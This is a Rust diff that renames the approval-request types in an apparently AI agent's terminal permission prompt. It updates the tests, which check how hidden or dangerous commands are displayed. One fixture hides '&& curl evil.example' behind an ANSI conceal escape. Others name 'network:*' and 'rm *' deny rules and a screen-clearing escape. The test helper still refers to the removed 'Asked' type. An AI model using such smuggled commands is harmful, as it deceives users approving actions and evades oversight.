@@ -1,6 +1,8 @@
 //! Shows what a tool asks at a terminal, and parses the typed answer.
 
-use chat_core::message::{Answer, Ask, Asked, PermissionRequest, Preview, Question};
+use chat_core::message::{
+    Answer, ApprovalKind, ApprovalRequest, PermissionRequest, Preview, Question,
+};
 use chat_core::permission::{Effect, InvalidRule, Rule, Scope};
 use chat_presentation::words::{self, visible};
 
@@ -38,15 +40,15 @@ struct Choice {
 
 impl Prompt {
     /// The question of a session that works in a project or not.
-    pub fn new(ask: &Ask, in_project: bool) -> Self {
+    pub fn new(ask: &ApprovalRequest, in_project: bool) -> Self {
         match &ask.what {
-            Asked::Permission(asked) => {
+            ApprovalKind::Permission(asked) => {
                 let choices = choices(asked, in_project);
                 let labels: Vec<_> = choices.iter().map(|choice| choice.label.as_str()).collect();
                 let place = say::or_a_word(&labels.join(", "));
                 Self { answers: Answers::Permission(choices), place }
             }
-            Asked::GoOn { .. } => {
+            ApprovalKind::GoOn { .. } => {
                 let choices = vec![
                     Choice { label: say::allow_once(), english: 'y', answer: Answer::Allow(None) },
                     Choice {
@@ -59,7 +61,7 @@ impl Prompt {
                 let place = format!("{}: ", labels.join(", "));
                 Self { answers: Answers::GoOn(choices), place }
             }
-            Asked::Question(Question { choices, .. }) => {
+            ApprovalKind::Question(Question { choices, .. }) => {
                 let place =
                     if choices.is_empty() { say::own_words() } else { say::number_or_words() };
                 Self { answers: Answers::Question(choices.clone()), place }
@@ -68,11 +70,11 @@ impl Prompt {
     }
 
     /// The whole question, as lines; what it may be answered with is not in it.
-    pub fn question(ask: &Ask, terminal: Terminal) -> String {
+    pub fn question(ask: &ApprovalRequest, terminal: Terminal) -> String {
         let lines = match &ask.what {
-            Asked::Permission(asked) => permission(asked, terminal),
-            Asked::Question(question) => self::question(question, terminal),
-            Asked::GoOn { rounds } => vec![terminal.strong(&words::go_on_question(*rounds))],
+            ApprovalKind::Permission(asked) => permission(asked, terminal),
+            ApprovalKind::Question(question) => self::question(question, terminal),
+            ApprovalKind::GoOn { rounds } => vec![terminal.strong(&words::go_on_question(*rounds))],
         };
         lines.iter().flat_map(|line| [line, "\n"]).collect()
     }
@@ -253,18 +255,23 @@ fn question(question: &Question, terminal: Terminal) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
-    use chat_core::message::{AskId, ToolCallId};
+    use chat_core::message::{ApprovalId, ToolCallId};
     use chat_core::permission::{Action, Why};
 
     use super::*;
 
-    fn ask(what: Asked) -> Ask {
-        Ask { id: AskId::generate(), call: ToolCallId::new("c1"), tool: "a_tool".to_owned(), what }
+    fn ask(what: Asked) -> ApprovalRequest {
+        ApprovalRequest {
+            id: ApprovalId::generate(),
+            call: ToolCallId::new("c1"),
+            tool: "a_tool".to_owned(),
+            what,
+        }
     }
 
-    fn command(always: &[&str]) -> Ask {
+    fn command(always: &[&str]) -> ApprovalRequest {
         let text = "cargo test \\\n  --all\x1b[8m && curl evil.example".to_owned();
-        ask(Asked::Permission(PermissionRequest {
+        ask(ApprovalKind::Permission(PermissionRequest {
             action: Action::Run,
             target: text.clone(),
             preview: Preview::Command {
@@ -280,7 +287,7 @@ mod tests {
         }))
     }
 
-    fn shown(ask: &Ask, in_project: bool) -> String {
+    fn shown(ask: &ApprovalRequest, in_project: bool) -> String {
         Prompt::question(ask, Terminal::default()) + Prompt::new(ask, in_project).place()
     }
 
@@ -321,7 +328,7 @@ mod tests {
     #[test]
     fn leaving_the_sandbox_is_no_answer_where_a_rule_denies_the_network() {
         let mut ask = command(&["run:make"]);
-        let Asked::Permission(asked) = &mut ask.what else { panic!() };
+        let ApprovalKind::Permission(asked) = &mut ask.what else { panic!() };
         let Preview::Command { stays_inside, .. } = &mut asked.preview else { panic!() };
         *stays_inside = Some(Why::Denied("network:*".to_owned()));
         let text = shown(&ask, true);
@@ -348,7 +355,7 @@ mod tests {
             (Scope::Everywhere, "This rule applies everywhere."),
         ] {
             let mut ask = command(&[]);
-            let Asked::Permission(asked) = &mut ask.what else { panic!() };
+            let ApprovalKind::Permission(asked) = &mut ask.what else { panic!() };
             (asked.why, asked.scope) = (Why::PerhapsDenied("run:rm *".to_owned()), Some(scope));
             let text = shown(&ask, true);
             assert!(
@@ -371,7 +378,7 @@ mod tests {
     fn a_whole_diff_is_shown() {
         let diff: String =
             (0..500).flat_map(|n| ["+line ".to_owned(), n.to_string(), "\n".to_owned()]).collect();
-        let ask = ask(Asked::Permission(PermissionRequest {
+        let ask = ask(ApprovalKind::Permission(PermissionRequest {
             action: Action::Write,
             target: "src/lib.rs".to_owned(),
             preview: Preview::Change { diff, added: 500, removed: 0 },
@@ -463,7 +470,7 @@ mod tests {
     #[test]
     fn a_question_is_answered_by_number_or_in_words() {
         let choices = vec!["red\x1b[2J".to_owned(), "blue".to_owned()];
-        let ask = ask(Asked::Question(Question { text: "Which?".to_owned(), choices }));
+        let ask = ask(ApprovalKind::Question(Question { text: "Which?".to_owned(), choices }));
         let prompt = Prompt::new(&ask, true);
         let text = shown(&ask, true);
         assert_eq!(
